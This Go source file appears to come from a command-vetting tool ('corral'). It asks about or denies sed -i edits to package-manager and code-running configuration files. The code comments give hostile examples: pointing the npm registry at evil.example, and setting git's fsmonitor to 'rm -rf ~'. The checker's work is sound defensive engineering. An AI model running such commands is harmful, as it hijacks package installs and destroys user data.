package rewrite

import (
	"bytes"
	"context"
	"io"
	"os"
	"os/exec"
	"strings"

	"github.com/corral-dev/corral/syntax"
)

// checkIndexConfigEdit judges sed -i of a package manager's
// configuration file (.npmrc, pip.conf, .yarnrc.yml and the others
// syntax.IsPackageIndexFile knows) by the settings the edited text
// holds that the file did not, as a write of that text by the Write
// tool or by echo is judged (syntax.NewIndexSettings): sed -i
// 's|registry=.*|registry=https://evil.example/|' .npmrc asks like
// echo registry=https://evil.example/ > .npmrc. What the script makes of
// the file is asked of the real GNU sed when the hook runs, in its
// --sandbox mode (no e, r or w command: it runs nothing and touches no
// file), on the file's text, bounded like the other listings; a script
// corral cannot hand it (a -f file, a run-time word, a file written
// earlier in the command, sed failing) asks for such a file.
func (p *Pass) checkIndexConfigEdit(c *syntax.Call) {
	if c.Name != "sed" || p.Config.NoScriptFiles {
		return
	}
	opts, ops := scan(c.Args, specFor("sed"))
	if !has(opts, "i", "in-place") {
		return
	}
	scripted := has(opts, "e", "f", "expression", "file")
	files := ops
	if !scripted && len(files) > 0 {
		files = files[1:]
	}
	for _, i := range files {
		a := c.Args[i]
		if !a.Static {
			continue
		}
		d := c.Dir.Join(a.Value)
		if d.Known && !syntax.IsPackageIndexFile(d.Path) && syntax.IsCodeConfigFile(d.Path, p.Config.Home) {
			p.sedCodeConfigEdit(c, opts, ops, scripted, d.Path)
			continue
		}
		if !d.Known || !syntax.IsPackageIndexFile(d.Path) {
			continue
		}
		why := p.sedIndexEdit(c, opts, ops, scripted, d.Path)
		if why != "" {
			p.Report(c, Finding{Rule: "bash-write", Decision: Ask,
				Message: "sed -i edits " + d.Path + ", a package manager's configuration: " + why +
					": every later install fetches packages, and runs their install code, from there"})
		}
	}
}

// sedIndexEdit returns the setting sed's edit adds to file, or why the
// edit cannot be known; "" when it adds none.
func (p *Pass) sedIndexEdit(c *syntax.Call, opts []option, ops []int, scripted bool, file string) string {
	return p.sedIndexEditWith(c, opts, ops, scripted, file, func(before, after string) string {
		if s := syntax.NewIndexSettings(file, before, after, false); len(s) > 0 {
			return "it sets " + s[0].String()
		}
		return ""
	})
}

// sedIndexEditWith runs sed's script on file's text and returns judge's
// word on the text before and after, or why the edit cannot be known.
func (p *Pass) sedIndexEditWith(c *syntax.Call, opts []option, ops []int, scripted bool, file string, judge func(before, after string) string) string {
	args := []string{"--sandbox"}
	for _, o := range opts {
		switch o.name {
		case "e", "expression":
			if !o.val.Static {
				return "its script is only known at run time"
			}
			args = append(args, "-e", o.val.Value)
		case "f", "file":
			return "its script is a file corral does not run"
		case "E", "r", "regexp-extended":
			args = append(args, "-E")
		case "z", "null-data", "zero-terminated":
			args = append(args, "-z")
		case "posix":
			args = append(args, "--posix")
		case "n", "quiet", "silent":
			args = append(args, "-n")
		case "debug":
			args = append(args, "--debug")
		}
	}
	if !scripted {
		if len(ops) == 0 || !c.Args[ops[0]].Static {
			return "its script is only known at run time"
		}
		args = append(args, "-e", c.Args[ops[0]].Value)
	}
	if p.madeEarlier(c, file, nil) {
		return "the file is written earlier in this command"
	}
	before := ""
	if fi, err := os.Stat(file); err == nil {
		if !fi.Mode().IsRegular() || fi.Size() > listOutput {
			return "the file cannot be read"
		}
		b, err := os.ReadFile(file)
		if err != nil {
			return "the file cannot be read"
		}
		before = string(b)
	}
	after, err := sandboxedSed(before, args)
	if err != nil {
		return "GNU sed --sandbox could not run its script (" + err.Error() + ")"
	}
	return judge(before, after)
}

// sedEditedText returns what sed -i's script makes of file, asked of
// GNU sed --sandbox as sedIndexEdit does, or why it cannot be known.
func (p *Pass) sedEditedText(c *syntax.Call, opts []option, ops []int, scripted bool, file string) (after, why string) {
	var captured string
	why = p.sedIndexEditWith(c, opts, ops, scripted, file, func(_, a string) string { captured = a; return "" })
	return captured, why
}

// sedCodeConfigEdit judges sed -i of a configuration file whose
// settings run code or move a program's output (syntax.IsCodeConfigFile:
// ~/.gitconfig, cargo's configuration, ~/.wgetrc…) as the write of the
// text the edit leaves is judged (issue 12): sed -i '$a
// [core]\n\tfsmonitor = rm -rf ~' ~/.gitconfig is denied as echo of the
// same lines is; an edit corral cannot know asks.
func (p *Pass) sedCodeConfigEdit(c *syntax.Call, opts []option, ops []int, scripted bool, file string) {
	after, why := p.sedEditedText(c, opts, ops, scripted, file)
	if why != "" {
		p.Report(c, Finding{Rule: "bash-write", Decision: Ask,
			Message: "sed -i edits " + file + ", a configuration whose settings make a program run code or move its output: " + why})
		return
	}
	mark := "CORRAL_TEXT"
	for strings.Contains(after, mark) {
		mark += "_"
	}
	res := Check(p.Config, "cat > "+syntax.Quote(file)+" <<'"+mark+"'\n"+after+"\n"+mark)
	if res.Decision == Allow || res.Decision == Rewrite {
		return
	}
	var parts []string
	for _, f := range res.Findings {
		if f.Decision == res.Decision {
			parts = append(parts, f.Rule+": "+f.Message)
		}
	}
	p.Report(c, Finding{Rule: "bash-write", Decision: res.Decision,
		Message: "sed -i edits " + file + " into text whose settings are judged as that text written by the shell: " + strings.Join(parts, "; ")})
}

// sandboxedSed runs GNU sed with args on text, at most listTime and
// listOutput bytes.
func sandboxedSed(text string, args []string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), listTime)
	defer cancel()
	cmd := exec.CommandContext(ctx, "sed", args...)
	cmd.Dir = os.TempDir()
	cmd.Env = []string{"LC_ALL=C", "PATH=/usr/bin:/bin:/usr/local/bin"}
	cmd.Stdin = strings.NewReader(text)
	var out bytes.Buffer
	cmd.Stdout = &limitWriter{w: &out, n: listOutput}
	if err := cmd.Run(); err != nil {
		return "", err
	}
	if ctx.Err() != nil {
		return "", errListOutput
	}
	return out.String(), nil
}

// limitWriter keeps at most n bytes and then fails.
type limitWriter struct {
	w io.Writer
	n int
}

func (l *limitWriter) Write(b []byte) (int, error) {
	if len(b) > l.n {
		return 0, errListOutput
	}
	l.n -= len(b)
	return l.w.Write(b)
}
